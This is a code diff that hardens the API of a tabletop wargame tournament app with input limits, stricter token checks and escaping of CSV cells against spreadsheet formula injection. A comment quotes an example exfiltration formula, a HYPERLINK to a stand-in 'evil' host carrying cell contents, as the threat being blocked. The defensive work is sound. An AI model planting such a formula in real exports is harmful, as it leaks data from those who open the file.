@@ -13,7 +13,7 @@ import io
 import json
 from collections.abc import Callable
 from dataclasses import asdict
-from typing import Annotated, Any
+from typing import Annotated, Any, Literal
 
 from fastapi import APIRouter, Depends, Header, Request, WebSocket, WebSocketDisconnect
 from fastapi.responses import Response
@@ -23,7 +23,15 @@ from starlette.requests import HTTPConnection
 
 from app.api import protocol
 from app.api.deps import BaseUrlDep
-from app.api.guard import Heartbeats, error_message, origin_allowed, rate_limit, serve
+from app.api.guard import (
+    Heartbeats,
+    error_message,
+    origin_allowed,
+    rate_limit,
+    serve,
+    token_matches,
+)
+from app.api.hardening import StrictJsonRoute
 from app.api.rest import table_links
 from app.domain import commands as c
 from app.domain.errors import BadInput
@@ -40,7 +48,7 @@ from app.tables.room import TableRoom, table_status
 #: A dashboard's first message is every table of the event (~1.3 kB a table).
 DASHBOARD_QUEUE_BYTES = 16 << 20
 
-router = APIRouter(prefix="/api/events")
+router = APIRouter(prefix="/api/events", route_class=StrictJsonRoute)
 socket_router = APIRouter()
 
 
@@ -61,8 +69,10 @@ EoToken = Annotated[str | None, Header(alias="X-EO-Token")]
 
 class EventIn(BaseModel):
     name: str = Field(..., min_length=1, max_length=120)
-    format: str = Field("sr2019", description="sr2019, masters2019 or champions2019")
-    points: int = Field(75, description="event point size (sets the Deathclock, DC1)")
+    format: str = Field("sr2019", max_length=32, description="sr2019, masters2019 or champions2019")
+    points: int = Field(
+        75, ge=0, le=1000, description="event point size (sets the Deathclock, DC1)"
+    )
     lists: int | None = Field(
         None,
         ge=1,
@@ -72,7 +82,10 @@ class EventIn(BaseModel):
     )
     fixed_rounds: int | None = Field(None, ge=1, le=12)
     cut_to_top: int | None = Field(
-        None, description="Cut to Top X: any X from 2 to the number of players (RP1)"
+        None,
+        ge=2,
+        le=1024,
+        description="Cut to Top X: any X from 2 to the number of players (RP1)",
     )
 
 
@@ -95,20 +108,29 @@ class DropIn(BaseModel):
 
 
 class RoundIn(BaseModel):
-    scenario: str | None = Field(None, description="scenario id; omitted = rolled (RP4)")
+    scenario: str | None = Field(
+        None, max_length=64, description="scenario id; omitted = rolled (RP4)"
+    )
 
 
 class SwapIn(BaseModel):
-    a: str
-    b: str
+    a: str = Field(..., max_length=64)
+    b: str = Field(..., max_length=64)
+
+
+Points = Annotated[int, Field(ge=0, le=10_000)]
 
 
 class ResultIn(BaseModel):
-    winner: str | None = Field(None, description="'p1', 'p2' or null for a tie")
-    control_points: list[int]
-    army_points_destroyed: list[int]
-    method: str = "eo"
-    lists: list[str] = ["", ""]
+    winner: str | None = Field(None, max_length=8, description="'p1', 'p2' or null for a tie")
+    control_points: list[Points] = Field(..., max_length=2, description="[P1, P2]")
+    army_points_destroyed: list[Points] = Field(..., max_length=2, description="[P1, P2]")
+    method: Literal[
+        "scenario", "assassination", "clock", "concession", "tiebreaker", "time", "eo"
+    ] = Field("eo", description="how the game ended (TS9)")
+    lists: list[Annotated[str, Field(max_length=200)]] = Field(
+        default_factory=lambda: ["", ""], max_length=2, description="list played, [P1, P2]"
+    )
     reason: str = Field(
         "", max_length=300, description="why a settled result is corrected (required then)"
     )
@@ -454,12 +476,26 @@ async def player_sheet(event_id: str, player_id: str, service: EventsDep) -> dic
     }
 
 
+#: A spreadsheet reads a cell that starts with one of these as a formula (or, for tab
+#: and line breaks, as the start of one): `=HYPERLINK("http://evil/?"&A1,"click")`.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def csv_cell(value: Any) -> Any:
+    """Text that a spreadsheet would run as a formula gets a leading single quote (the
+    OWASP way: shown as typed, never evaluated). Numbers the server wrote stay numbers."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def _csv(rows: list[dict[str, Any]], filename: str) -> Response:
+    """Every CSV export goes through here: each text cell through `csv_cell`."""
     out = io.StringIO()
     if rows:
         writer = csv.DictWriter(out, fieldnames=list(rows[0]))
         writer.writeheader()
-        writer.writerows(rows)
+        writer.writerows({key: csv_cell(value) for key, value in row.items()} for row in rows)
     return Response(
         out.getvalue(),
         media_type="text/csv",
@@ -529,7 +565,7 @@ async def dashboard_socket(websocket: WebSocket, event_id: str) -> None:
             await websocket.close(code=4404)
         return
     token = hello.get("token") if isinstance(hello, dict) else None
-    role = "eo" if isinstance(token, str) and token == event.admin_token else "public"
+    role = "eo" if token_matches(token, event.admin_token) else "public"
     sub = Subscriber(role, limit_bytes=DASHBOARD_QUEUE_BYTES)
     dashboard = dashboards.get(event_id)
     dashboard.join(sub, dashboard_snapshot(service, event_id, role))
